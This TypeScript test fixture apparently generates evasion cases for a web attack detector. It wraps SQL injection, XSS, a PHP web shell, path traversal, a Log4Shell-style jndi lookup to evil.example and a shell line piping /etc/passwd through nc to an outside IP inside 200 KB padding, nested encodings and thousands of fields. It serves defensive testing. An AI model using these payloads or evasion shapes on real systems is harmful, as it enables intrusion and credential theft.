import type { AttackFamily } from '../../../src/catalogs/attacks/attack-families.ts';
import { Random } from '../../detection/random.ts';
import {
  bytesOf,
  type Fields,
  formMessage,
  getMessage,
  jsonMessage,
  type Message,
  multipartMessage,
  postMessage,
  queryOf,
} from './message.ts';

export interface PaddedAttack {
  readonly shape: string;
  readonly family: AttackFamily;
  readonly bytes: Buffer;
}

/** One clear attack of each of several languages, and the same one cut where `,` joins the pieces. */
const payloads: readonly (readonly [AttackFamily, string, readonly string[]])[] = [
  [
    'sql',
    "' union select login,pass from users-- ",
    ["' union/*", '*/select/*', '*/login/*', '*/from users-- '],
  ],
  ['html', '<img src=x onerror=alert(1)>', ['<img src=x onerror="a=[1', '2].map(alert)">']],
  ['shell', '; cat /etc/passwd | nc 198.51.100.7 99', ['; cat /etc/{passwd', 'group}; id']],
  ['java', '$' + '{jndi:ldap://evil.example/a}', ['$' + '{jndi:ldap://evil.example/a', 'b}']],
  [
    'php',
    "<?php system($_GET['c']); ?>",
    ["<?php echo shell_exec($_GET['c'])", "system('id'); ?>"],
  ],
  ['traversal', '../../../../../../etc/passwd', ['../../../../../../etc/passwd', '']],
];

const PADDING = 200 * 1024;
const LEVELS = 5;
const FIELDS = 1000;

const prose = 'The quick brown fox jumps over the lazy dog. ';
const padding = prose.repeat(Math.ceil(PADDING / prose.length));
const manyFields = (last: string, count = FIELDS): Fields =>
  Object.fromEntries(
    Array.from({ length: count }, (_, at) => [`f${at}`, at === count - 1 ? last : `${at}`]),
  );
const repeated = (value: string, wrap: (value: string) => string): string =>
  Array.from({ length: LEVELS }).reduce<string>((inner) => wrap(inner), value);
const inBase64 = (value: string): string => Buffer.from(value).toString('base64');
const inXml = (value: string): string =>
  `<?xml version="1.0"?><a><b>${value.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</b></a>`;

type Shape = (value: string, pieces: readonly string[]) => Message;

const shapes: Readonly<Record<string, Shape>> = {
  '200 KB in a form field before': (value) => formMessage('/save', { text: padding, name: value }),
  '200 KB in the same form field': (value) => formMessage('/save', { name: padding + value }),
  '200 KB in a JSON text before': (value) =>
    jsonMessage('/api/save', { text: padding, name: value }),
  '200 KB of blanks in JSON': (value) =>
    postMessage(
      '/api/save',
      'application/json',
      `{"a":1,${' '.repeat(PADDING)}${JSON.stringify({ name: value }).slice(1)}`,
    ),
  '200 KB in a multipart field before': (value) =>
    multipartMessage('/save', [
      { name: 'text', content: padding },
      { name: 'name', content: value },
    ]),
  '200 KB in a file before': (value) =>
    multipartMessage('/save', [
      { name: 'file', fileName: 'a.txt', type: 'text/plain', content: padding },
      { name: 'name', content: value },
    ]),
  '200 KB in an XML text before': (value) =>
    postMessage(
      '/save',
      'application/xml',
      `<?xml version="1.0"?><a><b>${padding}</b><c>${value.replaceAll('<', '&lt;')}</c></a>`,
    ),
  '200 KB of plain text before': (value) => postMessage('/save', 'text/plain', padding + value),
  'five levels of JSON in JSON': (value) =>
    jsonMessage('/api/save', { data: repeated(value, (inner) => JSON.stringify({ data: inner })) }),
  'five levels of base64': (value) => formMessage('/save', { data: repeated(value, inBase64) }),
  'five levels of query strings': (value) =>
    getMessage(
      `/go?${repeated(`name=${encodeURIComponent(value)}`, (inner) => `a=1&url=${encodeURIComponent(`https://www.shop.test/?${inner}`)}`)}`,
    ),
  'five levels of XML in XML': (value) =>
    postMessage('/save', 'application/xml', repeated(value, inXml)),
  'five levels of percent-encoding': (value) =>
    getMessage(`/items?name=${repeated(value, encodeURIComponent)}`),
  'five levels of JSON, base64 and query strings': (value) =>
    formMessage('/save', {
      data: inBase64(
        JSON.stringify({ a: inBase64(queryOf({ x: '1', y: JSON.stringify({ z: value }) })) }),
      ),
    }),
  'a hundred levels of JSON lists': (value) =>
    postMessage(
      '/api/save',
      'application/json',
      `${'['.repeat(100)}${JSON.stringify(value)}${']'.repeat(100)}`,
    ),
  'split over repeated query arguments': (_, pieces) =>
    getMessage(
      `/items?page=1&${pieces.map((piece) => `id=${encodeURIComponent(piece)}`).join('&')}`,
    ),
  'split over repeated form fields': (_, pieces) =>
    postMessage(
      '/items',
      'application/x-www-form-urlencoded',
      pieces.map((piece) => `id=${encodeURIComponent(piece)}`).join('&'),
    ),
  'last of 1,000 form fields': (value) => formMessage('/save', manyFields(value)),
  'last of 1,000 query arguments': (value) => getMessage(`/save?${queryOf(manyFields(value))}`),
  'last of 1,000 JSON members': (value) => jsonMessage('/api/save', manyFields(value)),
  'last of 1,000 multipart fields': (value) =>
    multipartMessage(
      '/save',
      Object.entries(manyFields(value)).map(([name, content]) => ({ name, content })),
    ),
  'last of 1,000 cookies': (value) =>
    getMessage('/', [
      'Cookie',
      Object.entries(manyFields(encodeURIComponent(value)))
        .map((pair) => pair.join('='))
        .join('; '),
    ]),
  'behind 1,200 form fields': (value) => formMessage('/save', manyFields(value, 1200)),
  'behind 6,000 JSON members': (value) => jsonMessage('/api/save', manyFields(value, 6000)),
};

export function* paddedAttacks(): Generator<PaddedAttack> {
  const random = new Random(7);
  for (const [shape, message] of Object.entries(shapes)) {
    for (const [family, value, pieces] of payloads) {
      yield { shape, family, bytes: bytesOf(message(value, pieces), random) };
    }
  }
}
